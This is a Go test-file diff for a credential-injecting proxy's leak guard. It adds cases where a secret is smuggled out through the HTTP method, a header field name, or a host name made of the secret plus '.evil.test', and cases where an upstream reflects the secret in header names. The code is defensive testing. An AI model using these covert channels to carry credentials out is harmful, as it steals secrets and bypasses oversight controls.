@@ -7,9 +7,11 @@ import (
 	"fmt"
 	"io"
 	"net/http"
+	"net/http/httptest"
 	"net/url"
 	"strings"
 	"sync"
+	"sync/atomic"
 	"testing"
 	"testing/iotest"
 )
@@ -242,6 +244,18 @@ func TestLeakGuardThroughProxy(t *testing.T) {
 			r, _ := http.NewRequest("POST", "https://b.example.test/upload", pr)
 			return r
 		}, 403, ActionLeakBlocked},
+		{"method", Guard{}, func() *http.Request {
+			// A method is any token, and so can be the secret itself.
+			r, _ := http.NewRequest(secretA, "https://b.example.test/", nil)
+			return r
+		}, 403, ActionLeakBlocked},
+		{"header field name", Guard{}, func() *http.Request {
+			// net/http writes names in its canonical case: the secret
+			// arrives case-folded, and still readable.
+			r, _ := http.NewRequest("GET", "https://b.example.test/", nil)
+			r.Header.Set("X-"+secretA, "1")
+			return r
+		}, 403, ActionLeakBlocked},
 		{"request trailer", Guard{}, func() *http.Request {
 			// Sent after the body, where a scan of headers and body ends.
 			pr, pw := io.Pipe()
@@ -279,7 +293,7 @@ func TestLeakGuardThroughProxy(t *testing.T) {
 			}
 			if tc.want == 403 {
 				for _, r := range got.all()[before:] {
-					if strings.Contains(fmt.Sprint(r.Header, r.URL), secretA) {
+					if strings.Contains(strings.ToLower(fmt.Sprint(r.Method, r.Header, r.URL)), secretA) {
 						t.Fatal("upstream received the secret")
 					}
 				}
@@ -365,5 +379,79 @@ func TestReflectionGuardTrailers(t *testing.T) {
 				}
 			}
 		}
+	}
+}
+
+// TestLeakGuardPlainHostName: on plain HTTP the host name is a channel too
+// (it reaches DNS before any upstream), as a CONNECT target's is.
+func TestLeakGuardPlainHostName(t *testing.T) {
+	var hits atomic.Int32
+	plain := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		hits.Add(1)
+		io.WriteString(w, "ok")
+	}))
+	t.Cleanup(plain.Close)
+	up := newTestCA(t, "upstream")
+	const secretA = "secret-of-a-0123456789"
+	creds := []*Credential{{Name: "a", Placeholder: "PH-a-0000000000", Hosts: []string{"a.example.test"}, Inject: []Injection{{Type: "bearer"}}, Secret: staticSecret(secretA)}}
+	evil := strings.ToUpper(secretA) + ".evil.test"
+	for _, tc := range []struct {
+		guard Guard
+		want  int
+		act   Action
+	}{{Guard{}, 403, ActionLeakBlocked}, {Guard{Leak: "warn"}, 200, ActionPass}} {
+		h := startProxy(t, up, creds, Egress{}, map[string]string{evil + ":80": plain.Listener.Addr().String()}, func(p *Proxy) { p.Guard = tc.guard })
+		before := hits.Load()
+		res, err := h.client(testPassword, nil).Get("http://" + evil + "/")
+		if err != nil {
+			t.Fatal(err)
+		}
+		res.Body.Close()
+		rec := h.waitRecords(t, 1)[0]
+		if res.StatusCode != tc.want || rec.Action != tc.act {
+			t.Fatalf("%+v: status %d, record %+v", tc.guard, res.StatusCode, rec)
+		}
+		if tc.want == 403 && hits.Load() != before {
+			t.Fatal("the upstream was reached")
+		}
+		if tc.want == 200 && rec.Warning == "" {
+			t.Fatal("warn mode recorded no warning")
+		}
+		if strings.Contains(strings.ToLower(fmt.Sprintf("%+v", rec)), secretA) {
+			t.Fatal("record carries the secret")
+		}
+	}
+}
+
+// TestReflectionGuardHeaderNames: an upstream that echoes the injected
+// secret in a header or trailer field's name must not get it to the client.
+func TestReflectionGuardHeaderNames(t *testing.T) {
+	up := newTestCA(t, "upstream")
+	const s = "reflect-me-0123456789"
+	srv, _ := upstream(t, up, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		tok := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
+		w.Header().Set("X-"+tok, "1")
+		w.Header().Set("X-Kept", "kept")
+		io.WriteString(w, "body\n")
+		w.(http.Flusher).Flush()
+		w.Header().Set(http.TrailerPrefix+"X-T-"+tok, "1")
+	}), "a.example.test")
+	creds := []*Credential{{Name: "a", Placeholder: "PH-a-0000000000", Hosts: []string{"a.example.test"}, Inject: []Injection{{Type: "bearer"}}, Secret: staticSecret(s)}}
+	h := startProxy(t, up, creds, Egress{}, map[string]string{"a.example.test:443": hostPortOf(srv)})
+	res, err := h.client(testPassword, nil).Get("https://a.example.test/")
+	if err != nil {
+		t.Fatal(err)
+	}
+	io.ReadAll(res.Body)
+	res.Body.Close()
+	all := strings.ToLower(fmt.Sprint(res.Header, res.Trailer))
+	if strings.Contains(all, s) {
+		t.Fatalf("secret reflected in a field name: %s", all)
+	}
+	if res.Header.Get("X-Kept") != "kept" {
+		t.Fatalf("other headers lost: %v", res.Header)
+	}
+	if rec := h.waitRecords(t, 1)[0]; !rec.Redacted {
+		t.Fatalf("record %+v", rec)
 	}
 }
